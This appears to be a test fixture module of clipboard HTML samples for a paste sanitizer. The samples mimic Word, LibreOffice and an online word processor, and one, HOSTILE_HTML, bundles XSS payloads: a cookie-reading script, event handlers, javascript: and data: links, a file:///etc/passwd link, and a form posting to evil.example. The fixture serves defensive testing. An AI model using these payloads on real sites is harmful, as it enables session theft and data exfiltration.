// Invented clipboard samples for the paste tests: HTML shaped like what Microsoft Word,
// LibreOffice and a hostile web page put on the clipboard.

/** Word's clipboard HTML: Mso classes, mso-list paragraphs with marker spans, VML and a local image. */
export const WORD_HTML = `<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word" xmlns="http://www.w3.org/TR/REC-html40">
<head><meta http-equiv=Content-Type content="text/html; charset=utf-8"><meta name=ProgId content=Word.Document>
<meta name=Generator content="Microsoft Word 15"><meta name=Originator content="Microsoft Word 15">
<style><!--
p.MsoNormal, li.MsoNormal {margin:0cm; font-size:11.0pt; font-family:"Calibri",sans-serif;}
p.MsoListParagraphCxSpFirst {margin-left:36.0pt;}
span.Emphasis {font-weight:bold;}
@list l0:level1 {mso-level-number-format:bullet; mso-level-text:\\F0B7;}
@list l1:level1 {mso-level-tab-stop:none;}
--></style>
<!--[if gte mso 9]><xml><o:OfficeDocumentSettings><o:AllowPNG/></o:OfficeDocumentSettings></xml><![endif]-->
</head>
<body lang=EN-GB style='tab-interval:36.0pt;word-wrap:break-word'>
<!--StartFragment-->
<h1>Norm 13 (a): Cooperation among States<o:p></o:p></h1>
<p class=MsoNormal>The <b>Republic of Examplia</b> works with <i>regional partners</i> and <u>civil society</u>.<o:p></o:p></p>
<p class=MsoListParagraphCxSpFirst style='text-indent:-18.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span style='font-family:Symbol'><span style='mso-list:Ignore'>·<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp;&nbsp;&nbsp;&nbsp; </span></span></span><![endif]>National CERT established in 2019<o:p></o:p></p>
<p class=MsoListParagraphCxSpMiddle style='text-indent:-18.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span style='font-family:Symbol'><span style='mso-list:Ignore'>·<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp;&nbsp;&nbsp;&nbsp; </span></span></span><![endif]>Points of contact designated<o:p></o:p></p>
<p class=MsoListParagraphCxSpLast style='margin-left:72.0pt;text-indent:-18.0pt;mso-list:l0 level2 lfo1'><![if !supportLists]><span style='font-family:"Courier New"'><span style='mso-list:Ignore'>o<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp; </span></span></span><![endif]>Regional exercise held in 2023<o:p></o:p></p>
<p class=MsoNormal>Priorities for the next cycle:<o:p></o:p></p>
<p class=MsoListParagraphCxSpFirst style='text-indent:-18.0pt;mso-list:l1 level1 lfo2'><![if !supportLists]><span><span style='mso-list:Ignore'>1.<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp; </span></span></span><![endif]>Capacity building<o:p></o:p></p>
<p class=MsoListParagraphCxSpLast style='text-indent:-18.0pt;mso-list:l1 level1 lfo2'><![if !supportLists]><span><span style='mso-list:Ignore'>2.<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp; </span></span></span><![endif]>Information sharing<o:p></o:p></p>
<p class=MsoNormal>See <a href="https://cert.examplia.example/report">the annual report</a> and <a href="file:///C:/Users/desk/Documents/draft.docx">the internal draft</a>.<o:p></o:p></p>
<p class=MsoNormal><span style='mso-no-proof:yes'><!--[if gte vml 1]><v:shape id="Picture_x0020_1" style='width:90pt;height:40pt'><v:imagedata src="file:///C:/Users/desk/AppData/Local/Temp/msohtmlclip1/01/clip_image001.png" o:title=""/></v:shape><![endif]--><![if !vml]><img width=120 height=53 src="file:///C:/Users/desk/AppData/Local/Temp/msohtmlclip1/01/clip_image002.png" v:shapes="Picture_x0020_1"><![endif]></span><o:p></o:p></p>
<!--EndFragment-->
</body></html>`;

/** LibreOffice Writer's clipboard HTML: real lists, a lettered list as <ol type="a">. */
export const LIBREOFFICE_HTML = `<!DOCTYPE html><html><head><meta http-equiv="content-type" content="text/html; charset=utf-8"/>
<meta name="generator" content="LibreOffice 7.5.3.2 (Linux)"/><style type="text/css">p { line-height: 115%; margin-bottom: 0.25cm; background: transparent }</style></head>
<body lang="en-GB" dir="ltr"><h2 class="western">Institutions</h2>
<ol type="a"><li><p style="margin-bottom: 0cm">a national authority,</p></li><li><p style="margin-bottom: 0cm">a <b>point of contact</b>,</p></li></ol>
<ul><li><p>an <i>incident register</i></p></li></ul></body></html>`;

/** A web page trying every trick: scripts, handlers, unsafe links, remote images, styles, forms. */
export const HOSTILE_HTML = `<html><head><base href="https://evil.example/"><style>body { background: url(https://tracker.example/bg.png) } .loud { font-weight: bold }</style>
<script>window.stolen = document.cookie</script><link rel="stylesheet" href="https://tracker.example/x.css"></head>
<body onload="steal()"><p onclick="alert('p')" style="color: red; background-image: url(https://tracker.example/p.png)" class="loud">Click <a href="javascript:alert(1)">here</a>, <a href=" JaVaScRiPt:alert(2)">there</a>, <a href="data:text/html,&lt;script&gt;alert(3)&lt;/script&gt;">data</a>, <a href="file:///etc/passwd">file</a>, <a href="vbscript:msgbox(4)">basic</a> or <a href=" https://safe.example/guide " target="_blank" rel="opener" title="Guide" onmouseover="steal()">the guide</a>.</p>
<img src="https://tracker.example/pixel.gif" onerror="alert(5)" alt="pixel">
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y.swf">
<form action="https://evil.example/collect"><input name="q" value="typed secret"><button>Send</button></form>
<svg onload="alert(6)"><script>alert(7)</script><text>svg words</text></svg>
<h3 style="text-align: right">Closing <span style="font-weight: 700">remarks</span></h3>
<noscript>Enable scripts</noscript><template><p>hidden template</p></template></body></html>`;

/** An online word processor's clipboard HTML: formatting only in inline styles. */
export const STYLED_SPANS_HTML = `<meta charset="utf-8"><b style="font-weight:normal;" id="docs-internal-guid-0a1b2c"><p dir="ltr" style="line-height:1.38;margin-top:0pt;"><span style="font-size:11pt;font-family:Arial,sans-serif;color:#000000;font-weight:700;">Points of contact</span><span style="font-size:11pt;font-family:Arial,sans-serif;color:#000000;font-weight:400;"> are listed in the </span><span style="font-size:11pt;font-style:italic;">annex</span><span style="font-size:11pt;text-decoration:underline;">, updated yearly</span>.</p></b>`;
